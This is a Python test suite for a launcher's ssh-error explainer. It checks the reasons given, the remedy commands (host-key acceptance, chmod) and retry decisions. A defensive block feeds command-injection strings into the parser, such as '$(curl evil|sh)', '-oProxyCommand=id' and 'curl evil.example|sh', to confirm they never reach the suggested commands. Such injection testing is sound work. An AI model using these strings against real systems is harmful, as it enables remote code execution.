"""What ssh said is understood: the reason, the remedy, and whether another try may help."""

from __future__ import annotations

import shlex

import pytest

from launcher.hosts.ssh_complaint import explained

CHANGED = """\
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Offending ED25519 key in /home/me/.ssh/known_hosts:1
  remove with:
  ssh-keygen -f '/home/me/.ssh/known_hosts' -R 'gpu-b'
Host key for gpu-b has changed and you have requested strict checking.
Host key verification failed.
"""
REASONS = {
    "unknown name": (
        "ssh: Could not resolve hostname gpu-b: Name or service not known\n",
        "ssh cannot resolve the name gpu-b",
    ),
    "unknown jump host": (
        "ssh: Could not resolve hostname bastion: Name or service not known\n"
        "kex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535\n",
        "ssh cannot resolve the name bastion",
    ),
    "refused": (
        "ssh: connect to host gpu-b port 22: Connection refused\n",
        "gpu-b port 22 refuses connections",
    ),
    "no answer": (
        "ssh: connect to host 10.0.0.12 port 22: Connection timed out\n",
        "10.0.0.12 port 22 does not answer",
    ),
    "a server that says nothing": (
        "Connection timed out during banner exchange\nConnection to 127.0.0.1 port 22001 timed out\n",
        "it accepts connections, but does not go on as an ssh server does: it hangs or is overloaded, or is none",
    ),
    "a server that says nothing but its name": (
        "Connection to 127.0.0.1 port 22002 timed out\n",
        "it accepts connections, but does not go on as an ssh server does: it hangs or is overloaded, or is none",
    ),
    "no route": (
        "ssh: connect to host 10.0.0.12 port 22: No route to host\n",
        "10.0.0.12 port 22: No route to host",
    ),
    "wrong key": (
        "me@gpu-b: Permission denied (publickey,password).\n",
        "it refused the login (allowed there: publickey,password)",
    ),
    "unknown host key": ("Host key verification failed.\n", "this machine does not know its host key"),
    "changed host key": (
        CHANGED,
        "its host key is not the one that this machine knows: another machine answers, or it was set up anew",
    ),
    "no python, dash": ("sh: 1: exec: python3: not found\n", "it has no `python3` in the PATH of a command over ssh"),
    "no python, bash": (
        "bash: line 1: exec: python3: not found",
        "it has no `python3` in the PATH of a command over ssh",
    ),
    "no python, tcsh": ("python3: Command not found.\n", "it has no `python3` in the PATH of a command over ssh"),
    "an old python": (
        "tf-launch: the `python3` of this host is 3.6; 3.9 or later is needed\n",
        "the `python3` of this host is 3.6; 3.9 or later is needed",
    ),
    "configuration": (
        "Can't open user config file nowhere: No such file or directory\n",
        "Can't open user config file nowhere: No such file or directory",
    ),
    "option": (
        "command-line: line 0: Bad configuration option: nonsense\n",
        "command-line: line 0: Bad configuration option: nonsense",
    ),
    "the agent's own words": (
        "no sign of life from the launcher for 15 s (timeouts.lease); all workers were stopped\n",
        "no sign of life from the launcher for 15 s (timeouts.lease); all workers were stopped",
    ),
    "a noisy login": (
        "bash: warning: setlocale: LC_ALL: cannot change locale (de_DE)\nConnection to gpu-b closed by remote host.\n",
        "Connection to gpu-b closed by remote host.",
    ),
    "nothing": ("", "exit code 255"),
}


@pytest.mark.parametrize(("said", "reason"), REASONS.values(), ids=REASONS)
def test_the_reason_is_understood(said: str, reason: str) -> None:
    assert explained(said, "exit code 255", "gpu-b", []).reason == reason


def test_the_remedy_for_an_unknown_host_key_is_a_command_that_accepts_it() -> None:
    complaint = explained("Host key verification failed.", "", "me@gpu-b", ["-F", "my config"])

    assert complaint.remedy == (
        "if you trust it, accept it with: ssh -F 'my config' -o StrictHostKeyChecking=accept-new me@gpu-b true"
    )


def test_the_remedy_for_a_changed_host_key_forgets_the_old_one_where_ssh_found_it() -> None:
    complaint = explained(CHANGED, "", "gpu-b", [])

    assert complaint.remedy == (
        "only if you know why it changed: ssh-keygen -f /home/me/.ssh/known_hosts -R gpu-b && "
        "ssh -o StrictHostKeyChecking=accept-new gpu-b true"
    )


@pytest.mark.parametrize(
    "said",
    [
        "kex_exchange_identification: Connection closed by remote host\nConnection closed by 10.0.0.12 port 22\n",
        "kex_exchange_identification: read: Connection reset by peer\nConnection reset by 10.0.0.12 port 22\n",
        "ssh_exchange_identification: Connection closed by remote host\n",
        "Not allowed at this time\nkex_exchange_identification: banner line contains invalid characters\n",
    ],
)
def test_an_overloaded_sshd_is_worth_another_try(said: str) -> None:
    assert explained(said, "exit code 255", "gpu-b", []).passing


@pytest.mark.parametrize("said", [said for said, _ in REASONS.values() if said])
def test_nothing_else_is_tried_again(said: str) -> None:
    assert not explained(said, "exit code 255", "gpu-b", []).passing


EVIL = ["$(curl evil|sh)", "`id`", "x; curl evil", "x\n", "-oProxyCommand=id", "x | id", "'", "\x1b[2J", "a&b"]
UNPROTECTED = "Permissions 0644 for '{}' are too open.\n"


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize(
    "said",
    [
        CHANGED.replace("'gpu-b'", "{}"),
        CHANGED.replace("'/home/me/.ssh/known_hosts'", "{}"),
        CHANGED.replace("/home/me/.ssh/known_hosts' -R 'gpu-b", "{}"),
        UNPROTECTED,
        UNPROTECTED.replace("{}", "/{}"),
        "Permission denied ({}).\n",
        "ssh: Could not resolve hostname {}: no\n",
        "ssh: connect to host {} port 22: Connection refused\n",
        "command-line: line 0: Bad configuration option: {}\n",
        "tf-launch: the `python3` of this host is {}\n",
        "{}",
    ],
)
def test_what_ssh_said_adds_no_word_to_a_command(said: str, evil: str) -> None:
    complaint = explained(said.replace("{}", evil), "exit code 255", "gpu-b", [])

    assert complaint.reason.isprintable()
    words = set(shlex.shlex(complaint.remedy or "", posix=True, punctuation_chars=True))
    assert words.isdisjoint({"|", "&", "$", "curl", "id", "-oProxyCommand"})


@pytest.mark.parametrize(
    ("path", "command"),
    [
        ("/home/me/.ssh/id_rsa", "chmod 600 /home/me/.ssh/id_rsa"),
        ("/mnt/my disk/key", "chmod 600 '/mnt/my disk/key'"),
        ("/k; curl evil.example|sh", "chmod 600 KEY"),
        ("-R /", "chmod 600 KEY"),
    ],
)
def test_a_key_that_others_can_read_is_named_if_it_looks_like_a_file(path: str, command: str) -> None:
    assert explained(UNPROTECTED.format(path), "", "gpu-b", []).remedy == command


@pytest.mark.parametrize(
    "line", ["-f /x -R $(curl${IFS}evil|sh)", "-f /x -R 'a", "-f -x -R a", "-f /x -R a -y", "-f /x"]
)
def test_a_host_is_forgotten_by_a_command_of_our_own(line: str) -> None:
    complaint = explained(f"REMOTE HOST IDENTIFICATION HAS CHANGED!\nssh-keygen {line}\n", "", "me@gpu-b", [])

    assert complaint.remedy is not None
    assert "ssh-keygen -R gpu-b && ssh -o" in complaint.remedy
